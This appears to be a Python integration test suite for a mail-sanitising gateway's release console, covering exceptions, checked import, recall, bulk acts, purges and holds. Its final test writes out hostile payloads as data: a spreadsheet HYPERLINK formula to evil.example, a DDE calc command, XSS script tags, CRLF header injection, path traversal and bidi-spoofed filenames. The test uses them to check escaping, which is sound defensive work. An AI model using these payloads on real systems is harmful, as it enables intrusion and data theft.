"""Goal: what the release desk promises beside the plain release, through the running console, the command line and real SMTP: exceptions
that loosen for one origin and end by themselves; checked import by hand; recall; many acts in one request; washing again; saved
searches; holds that the purge spares; and mail whose every name is an attack on whoever looks at it."""
import base64
import csv
import datetime
import email
import email.policy
import io
import json
import os
import pathlib
import secrets
import signal
import sqlite3
import tempfile
import time
import unittest
import unicodedata

from console import Console, spec
from console_api_test import problems, resolve
from desk import People, password_of, rows, unzipped, withheld_mail, zip_of
from gateway import SOURCE, TOWN, Client, NextHop, wait_for

SATO = f"sato@{TOWN}"
DAY_MS = 86_400_000
INSIDE, OUTSIDE = "192.0.2.7", "198.51.100.9"
# In this town tables in files are withheld, so that an exception has something to loosen; drawings need a checked import.
CSV_RULE = '<part kind="text/csv" where="attachment" method="rebuild" charset="keep"/>'
IMPORT_RULE = '<release kind="image/vnd.dwg" approvals="1" by="superior administrator" checked-import="true"/>\n    '
LAST_RULE = '<release kind="message" approvals="1" rewash-approvals="0"'


def policy():
    text = (SOURCE / "conf/policy.xml").read_text()
    assert text.count(CSV_RULE) == 1 and LAST_RULE in text
    text = text.replace(CSV_RULE, '<part kind="text/csv" where="attachment" method="withhold"/>')
    return text.replace(LAST_RULE, IMPORT_RULE + LAST_RULE, 1)


def at(seconds=0, days=0):
    return (datetime.datetime.now(datetime.timezone.utc) + datetime.timedelta(seconds=seconds, days=days)).strftime("%Y-%m-%dT%H:%M:%S.000Z")


class Stories(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.hop, cls.release = NextHop(), NextHop()
        cls.folder = tempfile.TemporaryDirectory()
        pathlib.Path(cls.folder.name).chmod(0o755)
        file = pathlib.Path(cls.folder.name) / "policy.xml"
        file.write_text(policy())
        cls.gateway = Console({"wash.policy": str(file), "release.next_hop": f"127.0.0.1:{cls.release.port}", "release.sender": f"release@{TOWN}",
                               "receive.xforward_hosts": "127.0.0.1/32", "store.keep_days": "1"}, next_hop_port=cls.hop.port)
        cls.people = People(cls.gateway)
        cls.people.add("root1", "--first", roles=("administrator",))
        cls.people.add("root2", roles=("administrator",))
        cls.people.add("chief", "--address", f"chief@{TOWN}", roles=("approver",))
        cls.people.add("ciso1", roles=("ciso",))
        cls.people.add("audit1", roles=("auditor",))
        cls.people.add("sato", "--address", SATO, "--superior", "chief")
        cls.gateway.start()
        cls.sato, cls.chief, cls.root1, cls.root2, cls.ciso, cls.auditor = (
            cls.gateway.session(login) for login in ("sato", "chief", "root1", "root2", "ciso1", "audit1"))
        cls.document, _ = spec()
        cls.sent = 0

    @classmethod
    def tearDownClass(cls):
        for browser in (cls.sato, cls.chief, cls.root1, cls.root2, cls.ciso, cls.auditor):
            browser.close()
        stopped = cls.gateway.stop()
        cls.gateway.close()
        cls.hop.close()
        cls.release.close()
        cls.folder.cleanup()
        assert stopped == 0, stopped

    # --- helpers ------------------------------------------------------------------------------------------------------
    def mail_in(self, subject, content, name="data.bin", sender="sato@example.jp", origin=None, data=None, query=None):
        type(self).sent += 1
        data = data or withheld_mail(subject, content, name=name, number=self.sent)
        with Client(self.gateway.port) as client:
            client.hello()
            if origin:
                self.assertTrue(client.command(f"XFORWARD ADDR={origin}").startswith("250"))
            self.assertTrue(client.mail(sender, [SATO], data).startswith("250"))
        return wait_for(f"{subject} delivered", lambda: [i for i in self.gateway.items(query or f"subject:{subject}") if i["state"] == "delivered"])[0]["id"]

    def delivered(self, subject):
        return wait_for(subject, lambda: [m for m in self.hop.mails if f"Subject: {subject}\r\n".encode() in m["data"]])[-1]["data"]

    def ok(self, reply, status=200):
        self.assertEqual(reply.status, status, reply.body[:600])
        return reply.json if reply.body else None

    def refused(self, reply, code):
        self.assertGreaterEqual(reply.status, 400, reply.body[:600])
        self.assertEqual(reply.code, code, reply.body[:600])

    def fits(self, schema, value):
        self.assertEqual(problems(self.document, resolve(self.document, {"$ref": f"#/components/schemas/{schema}"}), value), [])

    def ask(self, item, way="original", part="2", **more):
        body = {"id": secrets.token_hex(16), "item": item, "recipient": 0, "way": way, "reason_code": "edit", "sender_confirmed": "phone", **more}
        if part:
            body["part"] = part
        return self.ok(self.sato.post("/requests", body), 201)

    def approve(self, request, browser=None, login="chief"):
        browser = browser or self.chief
        digest = self.ok(browser.get(f"/requests/{request}"))["digest"]
        return browser.post(f"/requests/{request}/approve", {"digest": digest, "code": self.people.code(login)})

    def wait_state(self, request, state):
        return wait_for(f"the request {state}", lambda: (lambda r: r if r["state"] == state else None)(self.ok(self.sato.get(f"/requests/{request}"))))

    # --- exceptions ---------------------------------------------------------------------------------------------------
    def proposal(self, **more):
        return {"sender_domain": "county.example.jp", "networks": ["192.0.2.0/24"], "kind": "text/csv", "method": "rebuild", "ground": "県の調査票（CSV）",
                "owner": "root2", "expires": at(days=30), "review": at(days=10), **more}

    def approve_exception(self, made):
        return self.ciso.post(f"/exceptions/{made['id']}/approve", {"digest": made["digest"], "code": self.people.code("ciso1")})

    def test_exceptions_that_are_too_loose_are_refused(self):
        def propose(browser=self.root1, **more):
            return browser.post("/exceptions", {k: v for k, v in self.proposal(**more).items() if v is not None})
        self.refused(propose(networks=None), "DESK-26")                        # a sender alone: anybody can write it
        self.refused(propose(networks=["0.0.0.0/0"]), "DESK-18")
        self.refused(propose(kind="*"), "DESK-27")
        self.refused(propose(options={"charset": "as-it-came"}), "DESK-27")
        self.refused(propose(expires=at(days=400), review=at(days=10)), "DESK-24")
        self.refused(propose(review=at(days=31)), "DESK-24")
        self.refused(propose(owner="nobody"), "DESK-02")
        for browser in (self.ciso, self.chief, self.sato, self.auditor):
            self.assertEqual(propose(browser).status, 403)

    def test_an_exception_from_proposal_to_its_end(self):
        table = b"name,total\r\nsato,12\r\n"
        made = self.ok(self.root1.post("/exceptions", self.proposal()), 201)
        self.fits("Exception", made)
        self.assertEqual((made["state"], made["uses"], made["approver"]), ("proposed", 0, None))

        def sent(subject, sender="kikaku@county.example.jp", origin=INSIDE):
            self.mail_in(subject, table, "table.csv", sender, origin)
            return b"table.csv\"" in self.delivered(subject).split(b"Temizu-Notice")[0] and base64.b64encode(b"name,total")[:12] in self.delivered(subject)

        self.assertFalse(sent("proposed only"), "nobody has approved it")
        for browser, login in ((self.root1, "root1"), (self.root2, "root2")):   # maker, owner
            self.refused(browser.post(f"/exceptions/{made['id']}/approve", {"digest": made["digest"], "code": "123456"}), "DESK-28")
        self.refused(self.ciso.post(f"/exceptions/{made['id']}/approve", {"digest": "0" * 64, "code": "123456"}), "DESK-31")
        approved = self.ok(self.approve_exception(made))
        self.assertEqual((approved["state"], approved["approver"]), ("in-force", "ciso1"))
        self.assertTrue(wait_for("the exception used", lambda: sent(f"inside {self.sent}")))
        used = self.ok(self.root1.get(f"/exceptions/{made['id']}"))["uses"]
        self.assertGreaterEqual(used, 1)
        self.assertFalse(sent("outside", origin=OUTSIDE), "the same sender from elsewhere")
        self.assertFalse(sent("another", sender="kikaku@city.example.jp"), "another sender from there")
        now = self.ok(self.root1.get(f"/exceptions/{made['id']}"))
        self.assertEqual(now["uses"], used, "each use is counted, and nothing else")
        self.assertIsNotNone(now["last_use"])
        # Reviewed by its owner, looked up by state, ended by the CISO: from then on it is as before.
        later = at(days=20)
        self.assertEqual(self.ok(self.root2.post(f"/exceptions/{made['id']}/review", {"review": later}))["review"], later)
        self.refused(self.root2.post(f"/exceptions/{made['id']}/review", {"review": at(days=31)}), "DESK-24")
        self.assertIn(made["id"], [one["id"] for one in self.ok(self.auditor.get("/exceptions?state=in-force"))["items"]])
        self.assertEqual(self.ok(self.ciso.post(f"/exceptions/{made['id']}/end", {"reason": "調査が終わったため"}))["state"], "ended")
        self.assertFalse(sent("after its end"))
        actions = [r["action"] for r in rows(self.gateway, "orders", "SELECT action FROM audit WHERE subject = ? ORDER BY number", made["id"])]
        self.assertEqual(actions, ["exception.propose", "exception.approve", "exception.review", "exception.end"])

    def test_an_exception_ends_by_itself(self):
        made = self.ok(self.root1.post("/exceptions", self.proposal(sender_domain="short.example.jp", expires=at(12), review=at(10))), 201)
        self.ok(self.approve_exception(made))
        wait_for("its end", lambda: self.ok(self.root1.get(f"/exceptions/{made['id']}"))["state"] == "expired")
        self.mail_in("too late", b"a,b\r\n1,2\r\n", "table.csv", "x@short.example.jp", INSIDE)
        self.assertNotIn(base64.b64encode(b"a,b\r\n1,2\r\n"), self.delivered("too late"))
        self.assertEqual(self.ok(self.root1.get(f"/exceptions/{made['id']}"))["uses"], 0)
        self.refused(self.root2.post(f"/exceptions/{made['id']}/review", {"review": at(days=1)}), "DESK-29")

    # --- checked import, recall ---------------------------------------------------------------------------------------
    def test_a_checked_import_and_its_recall(self):
        drawing = b"AC1032\0\0\0" + os.urandom(4000)
        item = self.mail_in("drawing", drawing, "plan.dwg")
        ways = {way["way"]: way for way in self.ok(self.sato.get(f"/mail/{item}/ways?part=2"))["ways"]}
        self.assertTrue(ways["original"]["checked_import"])
        request = self.ask(item)["id"]
        view = self.ok(self.chief.get(f"/requests/{request}"))
        self.assertFalse(view["may"].get("approve", False))
        self.refused(self.chief.post(f"/requests/{request}/approve", {"digest": view["digest"], "code": "123456"}), "DESK-16")
        self.assertEqual(rows(self.gateway, "washed", "SELECT 1 FROM code_answers WHERE purpose LIKE ?", f"approve:{request}%"), [], "no code was spent on it")
        looked, tested = at(-60), at(-30)
        self.refused(self.sato.post(f"/requests/{request}/checks", {"check": "eye", "at": at(3600), "terminal": "net-07"}), "CON-16")
        self.ok(self.sato.post(f"/requests/{request}/checks", {"check": "eye", "at": looked, "terminal": "net-07"}))
        half = self.ok(self.chief.get(f"/requests/{request}"))
        self.refused(self.chief.post(f"/requests/{request}/approve", {"digest": half["digest"], "code": "123456"}), "DESK-16")
        # The other answer at the command line, by the administrator.
        done = self.people.call("root1", "check", "malware", request, "--tool", "clamav", "--tool-version", "1.4.6/27800", "--result", "clean", "--at", tested, "--json", code=True)
        self.assertEqual(done.returncode, 0, done.stderr)
        self.refused(self.chief.post(f"/requests/{request}/approve", {"digest": half["digest"], "code": "123456"}), "DESK-31")   # the digest names the checks
        view = self.ok(self.chief.get(f"/requests/{request}"))
        self.fits("Request", view)
        checks = [{k: check.get(k) for k in ("check", "by", "at", "terminal", "tool", "version", "clean")} for check in view["facts"]["checks"]]
        self.assertEqual(checks, [{"check": "eye", "by": "氏名 sato", "at": looked, "terminal": "net-07", "tool": None, "version": None, "clean": None},
                                  {"check": "malware", "by": "氏名 root1", "at": tested, "terminal": None, "tool": "clamav", "version": "1.4.6/27800", "clean": True}])
        self.ok(self.approve(request))
        self.wait_state(request, "released")
        mail = wait_for("the released drawing", lambda: [m for m in self.release.mails if b"application/zip" in m["data"]])[0]
        self.assertEqual(mail["recipients"], [SATO])
        # The password at the command line, once.
        shown = self.people.call("sato", "released-password", request)
        self.assertEqual(shown.returncode, 0, shown.stderr)
        self.assertEqual(unzipped(zip_of(mail)[1], shown.stdout.strip(), self.gateway.work / "import"), {"plan.dwg": drawing})
        self.assertIn("DESK-21", self.people.call("sato", "released-password", request).stderr)
        self.refused(self.sato.post(f"/requests/{request}/password", {}), "DESK-21")
        # Who received which released original, and their recall.
        got = [one for one in self.ok(self.auditor.get("/requests?whose=all&state=released"))["items"] if one["id"] == request]
        self.assertEqual([(one["requester"]["account"], one["address"], one["item"], one["part"]) for one in got], [("sato", SATO, item, "2")])
        self.refused(self.sato.post(f"/requests/{request}/recall", {"reason_code": "mistaken"}), "CON-08")
        recalled = self.ok(self.chief.post(f"/requests/{request}/recall", {"reason_code": "mistaken"}))
        self.assertIn("recall", [move["move"] for move in recalled["moves"]])
        notice = wait_for("the recall notice", lambda: [m for m in self.release.mails if m is not mail and m["recipients"] == [SATO] and b"application/zip" not in m["data"]])[0]
        self.assertIn(item[:8], email.message_from_bytes(notice["data"], policy=email.policy.default).get_body(("plain",)).get_content())
        self.refused(self.root1.post(f"/requests/{request}/recall", {"reason_code": "mistaken"}), "DESK-22")
        self.assertEqual(len(rows(self.gateway, "washed", "SELECT 1 FROM recalls WHERE request = ?", bytes.fromhex(request))), 1)

    def test_what_the_malware_check_found_is_never_approved(self):
        item = self.mail_in("bad drawing", b"AC1032\0\0\0" + os.urandom(400), "bad.dwg")
        request = self.ask(item)["id"]
        self.ok(self.chief.post(f"/requests/{request}/checks", {"check": "eye", "at": at(-5), "terminal": "net-07"}))
        self.ok(self.chief.post(f"/requests/{request}/checks", {"check": "malware", "at": at(-5), "tool": "clamav", "version": "1", "clean": False}))
        self.ok(self.chief.post(f"/requests/{request}/checks", {"check": "malware", "at": at(-4), "tool": "other", "version": "1", "clean": True}))
        digest = self.ok(self.chief.get(f"/requests/{request}"))["digest"]
        self.refused(self.chief.post(f"/requests/{request}/approve", {"digest": digest, "code": "123456"}), "DESK-17")

    def test_a_mail_that_nobody_could_look_into_needs_two_people_and_both_checks(self):
        data = (f"From: a@example.jp\r\nTo: {SATO}\r\nSubject: unread\r\n" + "X-Many: x\r\n" * 2001 + "\r\nbody\r\n").encode()
        item = self.mail_in("unread", b"", data=data, query="verdict:held")
        way = [way for way in self.ok(self.sato.get(f"/mail/{item}/ways"))["ways"] if way["way"] == "original"][0]
        self.assertEqual((way["open"], way["approvals"], way["checked_import"]), (True, 2, True), way)
        request = self.ask(item, part="")["id"]
        self.refused(self.chief.post(f"/requests/{request}/approve", {"digest": self.ok(self.chief.get(f"/requests/{request}"))["digest"], "code": "123456"}), "DESK-16")
        self.ok(self.chief.post(f"/requests/{request}/checks", {"check": "eye", "at": at(-5), "terminal": "net-07"}))
        self.ok(self.chief.post(f"/requests/{request}/checks", {"check": "malware", "at": at(-5), "tool": "clamav", "version": "1", "clean": True}))
        self.assertEqual(self.ok(self.approve(request))["state"], "requested")
        self.ok(self.approve(request, self.root2, "root2"))
        self.wait_state(request, "released")
        mail = wait_for("the original", lambda: [m for m in self.release.mails if f"{item[:10]}.eml".encode() in m["data"] or item[:10].encode() in m["data"]])[-1]
        inside = unzipped(zip_of(mail)[1], password_of(self.gateway, request), self.gateway.work / "unread")
        self.assertEqual([data in content for content in inside.values()], [True], list(inside))

    # --- many at once -------------------------------------------------------------------------------------------------
    def test_many_requests_are_decided_in_one(self):
        item = self.mail_in("many", os.urandom(300))
        one, two, three = self.ask(item, part="2")["id"], self.ask(item, part="")["id"], self.ask(self.mail_in("many more", os.urandom(300)))["id"]
        self.ok(self.chief.post(f"/requests/{two}/deny", {"reason_code": "unneeded"}))
        nobody = "0" * 32
        body = {"act": "return", "reason_code": "explain", "reason": "目的を書いてください", "requests": [{"id": one}, {"id": two}, {"id": nobody}, {"id": three, "digest": "0" * 64}]}
        answer = self.ok(self.chief.post("/requests/bulk", body))
        self.assertEqual([(r["id"], r["ok"], r.get("error", {}).get("code")) for r in answer["results"]],
                         [(one, True, None), (two, False, "DESK-07"), (nobody, False, "DESK-01"), (three, False, "DESK-31")])
        self.assertEqual((answer["done"], answer["failed"]), (1, 3))
        self.assertEqual(self.ok(self.sato.get(f"/requests/{one}"))["state"], "returned")
        # A code proves one act: the right one for one request is worth nothing for the next.
        digest = self.ok(self.chief.get(f"/requests/{three}"))["digest"]
        code = self.people.code("chief")
        answer = self.ok(self.chief.post("/requests/bulk", {"act": "approve", "requests": [{"id": three, "digest": digest, "code": code}, {"id": one, "digest": digest, "code": code}]}))
        self.assertEqual([r["ok"] for r in answer["results"]], [True, False])
        self.wait_state(three, "released")
        # Own requests: their requester withdraws, an approver cannot.
        answer = self.ok(self.chief.post("/requests/bulk", {"act": "withdraw", "requests": [{"id": one}]}))
        self.assertEqual(answer["results"][0]["error"]["code"], "DESK-05")
        self.assertEqual(self.ok(self.sato.post("/requests/bulk", {"act": "withdraw", "requests": [{"id": one}]}))["done"], 1)
        self.assertEqual(self.chief.post("/requests/bulk", {"act": "deny", "reason_code": "unneeded", "requests": []}).status, 422)

    def test_many_messages_are_held_in_one(self):
        first, second = self.mail_in("hold many one", b"x"), self.mail_in("hold many two", b"y")
        self.ok(self.root1.post(f"/messages/{first}/act", {"act": "hold", "reason": "調査中"}))
        wait_for("the hold", lambda: self.ok(self.root1.get(f"/messages/{first}"))["hold"])
        answer = self.ok(self.root1.post("/messages/bulk", {"act": "hold", "reason": "住民監査請求", "owner": "root2", "items": [first, second, "0" * 32]}))
        self.assertEqual([(r["ok"], r.get("error", {}).get("code")) for r in answer["results"]], [(False, "CON-15"), (True, None), (False, "CON-12")])
        wait_for("the other hold", lambda: self.ok(self.root1.get(f"/messages/{second}"))["hold"])
        owners = {r["item"].hex(): r["owner"] for r in rows(self.gateway, "washed", "SELECT item, owner FROM keep_holds")}
        self.assertEqual((owners[first], owners[second]), ("root1", "root2"))
        self.assertEqual(self.ok(self.root1.post("/messages/bulk", {"act": "unhold", "reason": "終了", "items": [first, second]}))["done"], 2)
        self.assertEqual(self.root1.post("/messages/bulk", {"act": "hold", "reason": "x", "owner": "nobody", "items": [first]}).status, 422)
        self.assertEqual(self.auditor.post("/messages/bulk", {"act": "hold", "reason": "x", "items": [first]}).status, 403)

    # --- washing again ------------------------------------------------------------------------------------------------
    def test_washing_again_under_another_profile_needs_nobody(self):
        html = (f"From: a@example.jp\r\nTo: {SATO}\r\nSubject: again and again\r\nDate: Sun, 22 Nov 2026 09:12:03 +0900\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n"
                "<p>see <a href=\"https://example.jp/x\">here</a></p>\r\n").encode()
        item = self.mail_in("again and again", b"", data=html)
        self.assertIn(b"here <https://example.jp/x>", self.delivered("again and again"))
        ways = {way["way"]: way for way in self.ok(self.sato.get(f"/mail/{item}/ways"))["ways"]}
        self.assertEqual((ways["rewash:strict"]["open"], ways["rewash:strict"]["approvals"]), (True, 0))
        before = len(self.hop.mails)
        request = self.ask(item, "rewash:strict", part="")["id"]
        self.wait_state(request, "released")
        wait_for("the second mail", lambda: len(self.hop.mails) > before)
        self.assertIn(b"[1]", self.hop.mails[-1]["data"])
        self.assertEqual(self.hop.mails[-1]["recipients"], [SATO])
        before = len(self.hop.mails)
        run = self.people.call("sato", "request", item, "--way", "rewash", "--profile", "body-only", "--reason", "edit", "--json")
        self.assertEqual(run.returncode, 0, run.stderr)
        self.wait_state(json.loads(run.stdout.splitlines()[0])["id"], "released")
        wait_for("the third mail", lambda: len(self.hop.mails) > before)
        run = self.people.call("sato", "request", item, "--way", "rewash", "--profile", "standard", "--reason", "edit")
        self.assertIn("DESK-10", run.stderr)

    # --- saved searches -----------------------------------------------------------------------------------------------
    def test_saved_searches_are_ones_own(self):
        self.mail_in("saved search", b"x")
        made = self.ok(self.root1.post("/filters", {"name": "県", "q": "subject:\"saved search\""}), 201)["items"]
        made = self.ok(self.root1.post("/filters", {"name": "県", "q": "subject:saved"}), 201)["items"]
        self.assertEqual([(f["name"], f["q"]) for f in made], [("県", "subject:saved")], "the same name is replaced")
        q = self.ok(self.root1.get("/filters"))["items"][0]["q"]
        wait_for("the index", lambda: [i["subject"] for i in self.ok(self.root1.get(f"/messages?q={q}"))["items"]] == ["saved search"])
        self.assertEqual(self.ok(self.auditor.get("/filters"))["items"], [])
        self.assertEqual(self.auditor.ask("DELETE", f"/filters/{made[0]['number']}").status, 404)
        self.assertEqual(len(self.ok(self.root1.get("/filters"))["items"]), 1)
        self.refused(self.root1.post("/filters", {"name": "x", "q": "no-such-field:x after:yesterday-or-so"}), "CON-23")
        self.assertEqual(self.root1.ask("DELETE", f"/filters/{made[0]['number']}").status, 204)
        self.assertEqual(self.ok(self.root1.get("/filters"))["items"], [])

    # --- hold and purge -----------------------------------------------------------------------------------------------
    def set_back(self, items, days):
        """As if these had been washed and delivered so many days ago."""
        for ledger, table, column in (("washed", "results", "at_ms"), ("deliver", "deliveries", "changed_ms")):
            db = sqlite3.connect(self.gateway.work / f"store/{ledger}/{ledger}.db", timeout=30)
            with db:
                for item in items:
                    db.execute(f"UPDATE {table} SET {column} = {column} - ? WHERE item = ?", (days * DAY_MS, bytes.fromhex(item)))
            db.close()

    def purge(self):
        """The purge runs when wash starts."""
        was = self.gateway.pids("wash")
        os.kill(was, signal.SIGTERM)
        wait_for("wash anew", lambda: self.gateway.pids("wash") not in (None, was))

    def has_key(self, item):
        found = rows(self.gateway, "intake", "SELECT sealed_key, content FROM items WHERE id = ?", bytes.fromhex(item))[0]
        return found["sealed_key"] is not None

    def test_the_purge_spares_what_is_on_hold(self):
        gone, held, young = self.mail_in("purged one", os.urandom(200)), self.mail_in("held one", os.urandom(200)), self.mail_in("young one", os.urandom(200))
        self.ok(self.root1.post(f"/messages/{held}/act", {"act": "hold", "reason": "訴訟対応", "owner": "root2"}))
        wait_for("the hold", lambda: self.ok(self.root1.get(f"/messages/{held}"))["hold"])
        self.set_back([gone, held], 3)
        self.purge()
        wait_for("the purge", lambda: not self.has_key(gone))
        self.assertTrue(self.has_key(held))
        self.assertTrue(self.has_key(young))
        self.assertEqual(self.ok(self.root1.get(f"/messages/{gone}"))["purged"], True)
        way = [w for w in self.ok(self.sato.get(f"/mail/{gone}/ways"))["ways"] if w["way"] == "original"][0]
        self.assertEqual((way["open"], way["error"]["code"]), (False, "DESK-20"))
        self.refused(self.sato.post("/requests", {"id": secrets.token_hex(16), "item": gone, "recipient": 0, "way": "original", "reason_code": "edit", "sender_confirmed": "met"}), "DESK-20")
        kept = rows(self.gateway, "washed", "SELECT output, deliver_key, console_key, manifest FROM results WHERE item = ?", bytes.fromhex(gone))[0]
        self.assertEqual(set(kept.values()), {None})
        self.assertIsNone(self.ok(self.sato.get(f"/mail/{held}"))["keep_until"], "on hold")
        self.ok(self.root1.post(f"/messages/{held}/act", {"act": "unhold", "reason": "終了"}))
        wait_for("the hold's end", lambda: not self.ok(self.root1.get(f"/messages/{held}"))["hold"])
        self.purge()
        wait_for("the other's purge", lambda: not self.has_key(held))
        self.assertEqual(self.gateway.call("verify-audit").returncode, 0)

    # --- hostile names ------------------------------------------------------------------------------------------------
    def test_hostile_names_are_text_and_nothing_else(self):
        def word(text):
            return "=?utf-8?B?" + base64.b64encode(text.encode()).decode() + "?="
        evil = "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")"
        script = "<script>alert(1)</script><img src=x onerror=alert(2)>"
        subject = "hostile " + script + "\r\nX-Injected: yes\u202etxt.exe\u2066\0\x1b[31m"
        names = [evil, "@SUM(1)\tx", "+cmd|' /C calc'!A0", "a\"; filename=\"b.exe", "x\r\nSet-Cookie: a=b.txt", "..\\..\\win.ini", script + ".bin", "\u202egpj.exe"]
        parts = "".join(f"--b\r\nContent-Type: application/octet-stream; name=\"{word(name)}\"\r\nContent-Disposition: attachment; filename=\"{word(name)}\"\r\n\r\n\x01\x02{i}\r\n"
                        for i, name in enumerate(names))
        data = (f"From: {word('=1+1' + script + chr(0x202e))} <evil@example.jp>\r\nTo: {SATO}\r\nSubject: {word(subject)}\r\nDate: Sun, 22 Nov 2026 09:12:03 +0900\r\n"
                f"Message-ID: <h@example.jp>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<p>{script}=1+1</p>\r\n{parts}--b--\r\n").encode()
        item = self.mail_in("hostile", b"", data=data, sender="=cmd|calc@example.jp")
        request = self.ask(item, part="2", reason_code="other", reason=evil)["id"]
        self.ok(self.root1.post(f"/messages/{item}/act", {"act": "hold", "reason": evil}))
        self.ok(self.root2.post("/filters", {"name": script[:40], "q": "subject:hostile"}), 201)
        wait_for("the index", lambda: [i["id"] for i in self.ok(self.root1.get("/messages?q=subject:hostile"))["items"]] == [item])
        asked = [(self.sato, f"/mail/{item}"), (self.sato, "/mail"), (self.sato, f"/mail/{item}/text"), (self.sato, f"/mail/{item}/ways"), (self.sato, "/requests"),
                 (self.chief, "/requests/inbox"), (self.chief, f"/requests/{request}"), (self.chief, f"/requests/{request}/text"), (self.root1, f"/messages/{item}"),
                 (self.root1, "/messages?q=subject:hostile"), (self.root1, f"/messages/{item}/text"), (self.root1, f"/messages/{item}/journey"), (self.root2, "/filters"),
                 (self.root1, "/queue"), (self.auditor, f"/audit?subject={item}"), (self.auditor, "/requests?whose=all")]
        for browser, path in asked:
            with self.subTest(path=path):
                reply = browser.get(path)
                self.assertEqual(reply.headers["Content-Type"], "application/json; charset=utf-8")
                self.assertEqual(reply.headers["X-Content-Type-Options"], "nosniff")
                self.assertIsNone(reply.headers["X-Injected"])
                self.clean(self.ok(reply))
        lists = [(self.sato, "/mail.csv"), (self.sato, "/requests.csv"), (self.chief, "/requests/inbox.csv"), (self.root1, "/messages.csv"), (self.root1, f"/messages/{item}/journey.csv"),
                 (self.auditor, "/audit.csv"), (self.root1, "/people.csv"), (self.root1, "/queue.csv")]
        for browser, path in lists:
            with self.subTest(path=path):
                reply = browser.get(path)
                self.assertEqual(reply.status, 200, reply.body[:300])
                self.assertRegex(reply.headers["Content-Disposition"], r'^attachment; filename="temizu-[a-z-]+\.csv"$')
                self.assertTrue(reply.headers["Content-Type"].startswith("text/csv"))
                self.assertEqual(reply.headers["X-Content-Type-Options"], "nosniff")
                table = list(csv.reader(io.StringIO(reply.body.decode("utf-8-sig"), newline=""), strict=True))
                self.assertEqual({len(row) for row in table}, {len(table[0])}, "no cell breaks out of its row")
                for cell in (cell for row in table for cell in row):
                    self.assertNotRegex(cell, r"^[=+\-@\t\r＝＋－＠]")
                    self.clean(cell)
        # A search for the hostile words is a search, and an address that carries them is refused or finds nothing.
        for path in ("/messages?q=%3Cscript%3E%22%27%00", "/messages?q=%E2%80%AE", "/mail?q=subject:%0d%0aX-Injected:%20yes"):
            reply = self.root1.get(path)
            self.assertIn(reply.status, (200, 400, 422), path)
            self.assertIsNone(reply.headers["X-Injected"])
            self.clean(reply.json)
        # And what is delivered: one subject line, no field of theirs, no name of theirs but as text.
        mail = wait_for("the hostile mail", lambda: [m for m in self.hop.mails if b"h@example.jp" in m["data"]])[0]["data"]
        head = mail.split(b"\r\n\r\n")[0]
        self.assertNotIn(b"\r\nX-Injected", head)
        # At the command line: nothing that a terminal obeys.
        for words in (("show", item), ("search", "subject:hostile")):
            for character in self.gateway.call(*words).stdout:
                self.assertTrue(character in "\n\t" or unicodedata.category(character) not in ("Cc", "Cf"), repr(character))

    def clean(self, value):
        """No control, no bidi or invisible character in any text of an answer; tags stay the letters they are."""
        if isinstance(value, dict):
            for name, one in value.items():
                self.clean(name)
                self.clean(one)
        elif isinstance(value, list):
            for one in value:
                self.clean(one)
        elif isinstance(value, str):
            for character in value:
                self.assertTrue(character == "\n" or unicodedata.category(character) not in ("Cc", "Cf"), repr(value))


if __name__ == "__main__":
    unittest.main(verbosity=1)
